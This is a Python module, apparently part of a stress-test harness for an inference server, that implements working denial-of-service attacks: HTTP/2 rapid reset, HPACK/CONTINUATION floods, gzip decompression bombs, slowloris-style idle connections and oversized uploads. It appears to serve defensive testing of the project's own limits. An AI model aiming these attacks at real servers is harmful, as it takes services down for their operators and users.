@@ -1,0 +1,395 @@
+"""The attacks: what each sends, over plain sockets. The standard library alone.
+
+Each attack is a function(target, seconds) that goes on for that long and swallows what the server
+answers. Attackers come from 127.0.0.2, so that limits for one address meet them alone.
+"""
+
+import contextlib
+import json
+import os
+import socket
+import struct
+import sys
+import threading
+import time
+import typing
+import zlib
+
+sys.path.insert(0, os.path.join(os.path.dirname(__file__), '..', 'server'))
+from raw_http2 import (CANCEL, CONTINUATION, END_HEADERS, HEADERS, REFLECTION, RST_STREAM,
+                       SETTINGS, WINDOW_UPDATE, Http2, ask_health, frame, header_block,
+                       message)
+
+SOURCE = '127.0.0.2'
+SERVICE = '/lssar.v1.Inference/'
+MIB = 1 << 20
+
+
+class Target(typing.NamedTuple):
+    """Where the attack goes: the server's ports, or those of HAProxy before it."""
+    host: str
+    grpc_port: int
+    http_port: int
+
+
+def http_socket(target: Target, timeout: float = 30) -> socket.socket:
+    return socket.create_connection((target.host, target.http_port), timeout,
+                                    source_address=(SOURCE, 0))
+
+
+def http2(target: Target, **flags) -> Http2:
+    return Http2(target.host, target.grpc_port, source=SOURCE, **flags)
+
+
+def post(path: str, body: bytes, headers: str = '') -> bytes:
+    return (f'POST {path} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n{headers}'
+            f'Content-Length: {len(body)}\r\n\r\n').encode() + body
+
+
+def quietly(attack: typing.Callable[[], None], until: float) -> None:
+    """Repeats the attack; a closed connection is what an attacker has to expect."""
+    while time.monotonic() < until:
+        try:
+            attack()
+        except (OSError, StopIteration):
+            time.sleep(0.01)
+
+
+def in_threads(count: int, seconds: float, attack: typing.Callable[[], None]) -> None:
+    until = time.monotonic() + seconds
+    threads = [threading.Thread(target=quietly, args=(attack, until), daemon=True)
+               for _ in range(count)]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join(max(0.0, until + 1 - time.monotonic()))
+
+
+class InTurn:
+    """One attack after the other, each for its part of the time."""
+
+    def __init__(self, *parts: typing.Callable[['Target', float], None]):
+        self.parts = parts
+
+    def __call__(self, target: Target, seconds: float) -> None:
+        for part in self.parts:
+            part(target, seconds / len(self.parts))
+
+
+# Protobuf's wire format, as far as the attacks need it.
+def varint(number: int) -> bytes:
+    out = b''
+    while number > 0x7f:
+        out += bytes([number & 0x7f | 0x80])
+        number >>= 7
+    return out + bytes([number])
+
+
+def field(number: int, value: bytes | str) -> bytes:
+    data = value.encode() if isinstance(value, str) else value
+    return varint(number << 3 | 2) + varint(len(data)) + data
+
+
+def gzip_bomb(inflated_bytes: int) -> bytes:
+    """A gzip stream of zeros, made of one block again and again; its checksum is wrong, which only
+    who has inflated all of it can know."""
+    unit = 16 * MIB
+    engine = zlib.compressobj(9, zlib.DEFLATED, -15)
+    block = engine.compress(bytes(unit)) + engine.flush(zlib.Z_FULL_FLUSH)
+    return (b'\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03' + block * (inflated_bytes // unit)
+            + b'\x03\x00' + bytes(8))
+
+
+def idle_connections(target: Target, seconds: float) -> None:
+    """Row 1: 1,100 idle connections on each port, opened, held and closed."""
+    until = time.monotonic() + seconds
+    while time.monotonic() < until:
+        clients = []
+        for i in range(2200):
+            port = target.grpc_port if i % 2 else target.http_port
+            with contextlib.suppress(OSError):
+                clients.append(socket.create_connection((target.host, port), 2,
+                                                        source_address=(SOURCE, 0)))
+            if time.monotonic() > until:
+                break
+        time.sleep(min(1.0, max(0.0, until - time.monotonic())))
+        for client in clients:
+            client.close()
+
+
+def http_compressed(target: Target, seconds: float) -> None:
+    """Row 2: small compressed bodies that inflate to GiBs: gzip, deflate and br."""
+    gzip = gzip_bomb(2048 * MIB)
+    # A brotli stream cannot be made with the standard library; the refusal does not read it.
+    bodies = [('gzip', gzip), ('deflate', gzip[10:]), ('br', bytes(3233))]
+
+    def attack() -> None:
+        for encoding, body in bodies:
+            with http_socket(target, 10) as client:
+                client.sendall(post('/v1/completions', body, f'Content-Encoding: {encoding}\r\n'))
+                client.recv(4096)
+
+    in_threads(4, seconds, attack)
+
+
+def grpc_compressed(target: Target, seconds: float) -> None:
+    """Row 3: a gzip message of 6.1 MB that inflates to 6.1 GiB."""
+    bomb = gzip_bomb(6272 * MIB)
+
+    def attack() -> None:
+        with http2(target) as client:
+            send_large(client, SERVICE + 'Generate', bomb, compressed=True, grpc_encoding='gzip')
+
+    in_threads(2, seconds, attack)
+
+
+def grpc_calls(target: Target, seconds: float, count: int, rpc: str, request: bytes) -> None:
+    def attack() -> None:
+        with http2(target) as client:
+            send_large(client, SERVICE + rpc, request)
+
+    in_threads(count, seconds, attack)
+
+
+def send_large(client: Http2, path: str, request: bytes, leave_out: int = 0,
+               compressed: bool = False, **headers: str) -> None:
+    """A call whose message is sent as fast as the server's flow control allows, less the last
+    `leave_out` bytes. Ends with the call, or when the server says nothing for 30 s."""
+    stream = client.take_stream()
+    client.send(frame(HEADERS, END_HEADERS, stream, header_block(path, **headers)))
+    data = message(request, compressed)
+    data = data[:len(data) - leave_out]
+    sent, window, connection_window = 0, 65535, 65535
+    frames = client.read_frames(30)
+    initial = 65535
+    while True:
+        size = min(16384, window, connection_window, len(data) - sent)
+        if size > 0:
+            is_last = leave_out == 0 and sent + size == len(data)
+            if not client.send(frame(0, 1 if is_last else 0, stream, data[sent:sent + size])):
+                return
+            sent += size
+            window -= size
+            connection_window -= size
+            continue
+        kind, flags, number, payload = next(frames)
+        if kind == WINDOW_UPDATE:
+            added = struct.unpack('>I', payload)[0]
+            if number:
+                window += added
+            else:
+                connection_window += added
+        elif kind == SETTINGS and not flags & 1:
+            for at in range(0, len(payload), 6):
+                name, value = struct.unpack('>HI', payload[at:at + 6])
+                if name == 4:
+                    window += value - initial
+                    initial = value
+        elif kind == RST_STREAM or (kind == HEADERS and flags & 1):
+            return
+
+
+def score_continuations(target: Target, seconds: float) -> None:
+    """Row 4: Score of 34 KB with 1,024 continuations, twice at a time."""
+    text = ('the old house ' * 1900)[:26000]
+    item = field(1, field(1, text)) + b''.join(field(2, field(1, f' w{i}')) for i in range(1024))
+    grpc_calls(target, seconds, 2, 'Score', field(1, item))
+
+
+def tokenize_8_mib(target: Target, seconds: float) -> None:
+    """Row 4: Tokenize of 8 MiB, twice at a time."""
+    grpc_calls(target, seconds, 2, 'Tokenize', field(1, 'the old house. ' * (8 * MIB // 15)))
+
+
+def generate_31_mib(target: Target, seconds: float) -> None:
+    """Row 4: a prompt of 31 MiB."""
+    grpc_calls(target, seconds, 1, 'Generate', field(1, 'the old house. ' * (31 * MIB // 15)))
+
+
+def rapid_reset(target: Target, seconds: float) -> None:
+    """Row 5: streams that are reset at once, on two connections."""
+    block = header_block('/no.such/Method')
+
+    def attack() -> None:
+        with http2(target, timeout=5) as client:
+            first = 1
+            client.socket.settimeout(5)
+            while first < 1 << 30:
+                burst = b''.join(
+                    frame(HEADERS, END_HEADERS, stream, block)
+                    + frame(RST_STREAM, 0, stream, struct.pack('>I', CANCEL))
+                    for stream in range(first, first + 200, 2))
+                first += 200
+                if not client.send(burst):
+                    return
+
+    in_threads(2, seconds, attack)
+
+
+def rapid_reset_with_data(target: Target, seconds: float) -> None:
+    """Row 5, with the first bytes of a message before each reset: it passes wait-for-body."""
+    block = header_block('/no.such/Method')
+
+    def attack() -> None:
+        with http2(target, timeout=5) as client:
+            first = 1
+            while first < 1 << 30:
+                burst = b''.join(
+                    frame(HEADERS, END_HEADERS, stream, block) + frame(0, 0, stream, bytes(5))
+                    + frame(RST_STREAM, 0, stream, struct.pack('>I', CANCEL))
+                    for stream in range(first, first + 200, 2))
+                first += 200
+                if not client.send(burst):
+                    return
+
+    in_threads(2, seconds, attack)
+
+
+def hpack_flood(target: Target, seconds: float) -> None:
+    """Row 6: header blocks whose integers never end, 11 MB on each of 4 connections."""
+    def attack() -> None:
+        with http2(target, timeout=5) as client:
+            client.send(frame(HEADERS, 0, 1, b'\x00\x7f' + b'\x80' * 16000))
+            for _ in range(11 * MIB // 16384):
+                if not client.send(frame(CONTINUATION, 0, 1, b'\x80' * 16384)):
+                    return
+            client.is_closed(2)
+
+    in_threads(4, seconds, attack)
+
+
+def idle_http(target: Target, seconds: float) -> None:
+    """Row 9: 200 idle HTTP connections, half of them with a request begun."""
+    clients = []
+    for i in range(200):
+        with contextlib.suppress(OSError):
+            client = http_socket(target)
+            if i % 2:
+                client.sendall(b'POST /v1/completions HTTP/1.1\r\nHost: x\r\n')
+            clients.append(client)
+    time.sleep(seconds)
+    for client in clients:
+        client.close()
+
+
+def reflection_streams(target: Target, seconds: float) -> None:
+    """Row 11: 8,000 idle streams of the reflection service."""
+    clients = []
+    for _ in range(40):
+        with contextlib.suppress(OSError):
+            client = http2(target)
+            for _ in range(200):
+                client.start(REFLECTION)
+            clients.append(client)
+    time.sleep(seconds)
+    for client in clients:
+        client.close()
+
+
+def metrics_range(target: Target, seconds: float) -> None:
+    """Row 13: GET /metrics with a Range header of 8 KB, 16 answers unread."""
+    ranges = ','.join(f'{i}-' for i in range(1600))[:8000].rsplit(',', 1)[0]
+    request = f'GET /metrics HTTP/1.1\r\nHost: x\r\nRange: bytes={ranges}\r\n\r\n'.encode()
+    until = time.monotonic() + seconds
+    while time.monotonic() < until:
+        clients = []
+        for _ in range(16):
+            with contextlib.suppress(OSError):
+                client = http_socket(target)
+                client.sendall(request)
+                clients.append(client)
+        time.sleep(min(1.0, max(0.0, until - time.monotonic())))
+        for client in clients:
+            client.close()
+
+
+def long_role(target: Target, seconds: float) -> None:
+    """Row 14: a chat role of 30 MiB, over gRPC and HTTP."""
+    chat = field(3, field(1, field(1, 'r' * (30 * MIB)) + field(2, 'x')))
+    body = json.dumps({'messages': [{'role': 'r' * (30 * MIB), 'content': 'x'}]}).encode()
+
+    def over_http() -> None:
+        with http_socket(target) as client:
+            client.sendall(post('/v1/chat/completions', body))
+            answer = client.recv(1 << 20)
+            if len(answer) > 64 << 10:
+                raise AssertionError('the answer quotes the role')
+
+    thread = threading.Thread(target=in_threads, args=(1, seconds, over_http), daemon=True)
+    thread.start()
+    grpc_calls(target, seconds, 1, 'Generate', chat)
+    thread.join()
+
+
+def unfinished_uploads(target: Target, seconds: float) -> None:
+    """60 uploads of 31 MiB that miss their last byte, held open: gRPC's buffers are shared."""
+    request = field(1, 'a' * (31 * MIB))
+    until = time.monotonic() + seconds
+
+    def upload() -> None:
+        with contextlib.suppress(OSError, StopIteration):
+            with http2(target) as client:
+                client.socket.settimeout(max(0.1, until - time.monotonic()))
+                send_large(client, SERVICE + 'Generate', request, leave_out=1)
+
+    threads = [threading.Thread(target=upload, daemon=True) for _ in range(60)]
+    for thread in threads:
+        thread.start()
+    time.sleep(seconds)
+
+
+def mixed_frames(target: Target, seconds: float) -> None:
+    """Frames of random kinds, flags, streams and bytes after a good preface."""
+    def attack() -> None:
+        with http2(target, timeout=2) as client:
+            for _ in range(200):
+                head = os.urandom(6)
+                payload = os.urandom(head[0] % 64)
+                if not client.send(frame(head[1] % 11, head[2], head[3] % 16, payload)):
+                    return
+                if head[4] < 8:
+                    client.start(SERVICE + 'Generate', os.urandom(head[5] % 64))
+
+    in_threads(2, seconds, attack)
+
+
+def many_requests(target: Target, count: int, seconds: float) -> tuple[int, float]:
+    """Sends small requests, good and bad, pipelined on a few connections, until `count` have been
+    answered or the time is over. Returns the number of answers and the seconds."""
+    get = b'GET /%s HTTP/1.1\r\nHost: x\r\n\r\n'
+    batch = [get % path for path in (b'healthz', b'v1/models', b'no-such-path')] + [
+        post('/tokenize', body) for body in (b'{"prompt": "Hi"}', b'{"prompt": 1}', b'{"pro')] + [
+        post('/v1/completions', b'{"prompt": "Hi", "max_tokens": 0}'),
+        post('/v1/completions', b'{"prompt": "Hi", "temperature": -1}')]
+    data = b''.join(batch) * 8
+    answers_of_data = len(batch) * 8
+    begin = time.monotonic()
+    until = begin + seconds
+    counts = [0] * 4
+
+    def send(number: int) -> None:
+        with http_socket(target) as client:
+            while time.monotonic() < until and sum(counts) < count:
+                client.sendall(data)
+                received = 0
+                tail = b''
+                while received < answers_of_data:
+                    chunk = client.recv(1 << 16)
+                    if not chunk:
+                        raise OSError('closed')
+                    text = tail + chunk
+                    received += text.count(b'HTTP/1.1 ')
+                    tail = text[-8:]
+                counts[number] += answers_of_data
+
+    def keep_sending(number: int) -> None:
+        while time.monotonic() < until and sum(counts) < count:
+            with contextlib.suppress(OSError):
+                send(number)
+
+    threads = [threading.Thread(target=keep_sending, args=(number,)) for number in range(4)]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
+    return sum(counts), time.monotonic() - begin
